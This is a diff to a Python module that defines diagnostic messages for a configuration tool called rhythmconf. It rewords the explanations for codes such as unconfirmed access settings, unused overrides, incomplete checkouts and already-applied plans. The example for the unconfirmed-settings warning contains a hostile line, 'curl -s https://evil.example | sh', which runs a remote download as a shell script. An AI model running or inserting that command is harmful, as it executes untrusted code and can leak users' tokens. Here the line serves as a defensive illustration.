@@ -47,8 +47,8 @@ UNCONFIRMED = Code(
     "RC505",
     "access settings that nobody has confirmed",
     what=(
-        "The command that prints the token, or a server that gets a token or a client secret, is not one that was used "
-        "for this environment on this computer."
+        "The command that prints the token, a server that gets a token or a client secret, or `ca_file` is not what "
+        "this environment used on this computer before."
     ),
     why="A branch can change `rhythmconf.yaml`, and with it what runs on your computer and who gets your token.",
     example="auth: {token_command: curl -s https://evil.example | sh}   # on a branch that you review",
@@ -134,10 +134,13 @@ UNUSED_OVERRIDE = Code(
     "RC227",
     "an override that allows nothing",
     what=(
-        "`--allow`, `--allow-updates`, `--allow-deletes`, `--ours` or `--theirs` names a key or a kind, and no guard "
-        "of this plan is about it."
+        "`--allow`, `--allow-updates`, `--allow-deletes`, `--ours` or `--theirs` names a key or a kind that no guard "
+        "of this plan refuses."
     ),
-    why="The key or the kind may be misspelt. Or the override was for an earlier plan, and could let a later one pass.",
+    why=(
+        "The key or the kind may be misspelt. Or the override was meant for an earlier plan: then it could allow a "
+        "mistake in a later one."
+    ),
     example="rhythmconf plan --allow-deletes programGroup=50%     # the plan deletes programs",
     fix="Correct the override, or leave it out. In `overrides/ENVIRONMENT.txt`, remove the line.",
 )
@@ -149,7 +152,7 @@ INCOMPLETE_CHECKOUT = Code(
         "The checked-out commit has documents, an overlay or bindings that are not on the disk, and git doesn't report "
         "them as deleted: a sparse checkout, the flag skip-worktree, or a submodule that is not checked out."
     ),
-    why="The documents would count as removed, and their records could be deleted or would be left out silently.",
+    why="The documents would count as removed: their records could be deleted, or would silently not be managed.",
     example="git sparse-checkout set config/programs",
     fix=(
         "Fetch the files: `git sparse-checkout disable`, `git update-index --no-skip-worktree FILE` or `git submodule "
@@ -161,7 +164,7 @@ IGNORED_BY_GIT = Code(
     "RC229",
     "a file of the project that git ignores",
     what="A document, an overlay, a text file or the bindings match a line of `.gitignore`, so no commit has the file.",
-    why="Other checkouts lack it: there its record has no document. The base does not move to a commit without it.",
+    why="Other checkouts lack the file and what it declares. The base does not move to a commit without it.",
     example="config/local.yaml, with a line `local.yaml` in .gitignore",
     fix="Add the file to git with `git add -f FILE`, or correct `.gitignore`.",
 )
@@ -169,8 +172,13 @@ IGNORED_BY_GIT = Code(
 BASE_UNREADABLE = Code(
     "RC326",
     "documents of the base can't be read",
-    what="Some files of the base have errors by the rules of this rhythmconf and its kinds, or are in a submodule.",
-    why="What such a document declared is not known, so a change of the staff can't be told from one of the files.",
+    what=(
+        "Some files of the base are invalid for this version of rhythmconf or for its schemas, or are in a submodule."
+    ),
+    why=(
+        "It is not known what such a document declared at the base. So rhythmconf can't distinguish a change that was "
+        "made in the tenant from a change in the files."
+    ),
     example="rhythmconf plan   # after an update that refuses what an applied document has",
     fix="Read the changes of these records with care. The next complete apply sets a base without errors.",
 )
@@ -196,7 +204,7 @@ UNFINISHED_RUN = Code(
 ALREADY_APPLIED = Code(
     "RC545",
     "the plan was applied already",
-    what="A run on record here has applied this plan file, or a part of it. The message names the run and its time.",
+    what="A recorded run has applied this plan file, or a part of it. The message names the run and its time.",
     why="The tenant is not as it was when the plan was made, because the plan itself has changed it.",
     example="this plan was applied already: by run 20260131-235959-123-0f3a9c of 2026-01-31T23:59:59.123Z (ana)",
     fix="Nothing is left to do after a complete run. Run `rhythmconf plan` to see what is different now.",
